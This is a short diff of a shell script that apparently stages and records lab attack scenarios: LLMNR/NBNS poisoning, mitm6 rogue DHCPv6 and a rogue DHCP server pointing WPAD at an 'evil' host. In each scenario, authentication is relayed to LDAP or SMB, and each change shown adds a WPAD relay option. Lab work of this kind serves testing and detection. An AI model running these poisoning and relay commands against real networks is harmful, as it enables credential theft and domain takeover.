@@ -56,7 +56,7 @@ scenario_poisoning_llmnr_rogue() {
 scenario_poisoning_llmnr_wpad() {
   record poisoning_llmnr_wpad "${EVERYTHING[@]}"
   poison llmnr
-  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh wpad
+  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh wpad -wa 0
   asks ws1 $WS1 llmnr wpad
   fetch_wpad
   sleep 3
@@ -103,7 +103,7 @@ scenario_poisoning_nbns_rogue() {
 scenario_poisoning_nbns_wpad() {
   record poisoning_nbns_wpad "${EVERYTHING[@]}"
   poison nbns
-  relay_on http -t "smb://$FILES" -wh wpad
+  relay_on http -t "smb://$FILES" -wh wpad -wa 0
   asks ws1 $WS1 nbns WPAD
   fetch_wpad
   sleep 3
@@ -154,7 +154,7 @@ scenario_rogue_dhcpv6_mitm6() {
   ipv6 on
   record rogue_dhcpv6_mitm6 "${EVERYTHING[@]}"
   mitm6 -d "$DNS_DOMAIN"
-  relay_on http -6 -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh "wpad.$DNS_DOMAIN"
+  relay_on http -6 -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh "wpad.$DNS_DOMAIN" -wa 0
   ask_dhcpv6 ws1
   ask_rogue_dns ws1 "wpad.$DNS_DOMAIN" "$FILES_FQDN"
   fetch_wpad
@@ -233,7 +233,7 @@ scenario_rogue_dhcp_wpad() {
   record rogue_dhcp_wpad "${EVERYTHING[@]}"
   dhcp_server gw1 $GW "$PREFIX.150,$PREFIX.159" "--dhcp-option=3,$GW" "--dhcp-option=6,$DC"
   dhcp_server evil $EVIL "$PREFIX.160,$PREFIX.169" "--dhcp-option=252,http://$EVIL/wpad.dat" "--dhcp-option=6,$DC"
-  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh wpad
+  relay_on http -t "ldap://$DC" "${LDAP_QUIET[@]}" -wh wpad -wa 0
   ask_dhcp ws1
   fetch_wpad
   sleep 3
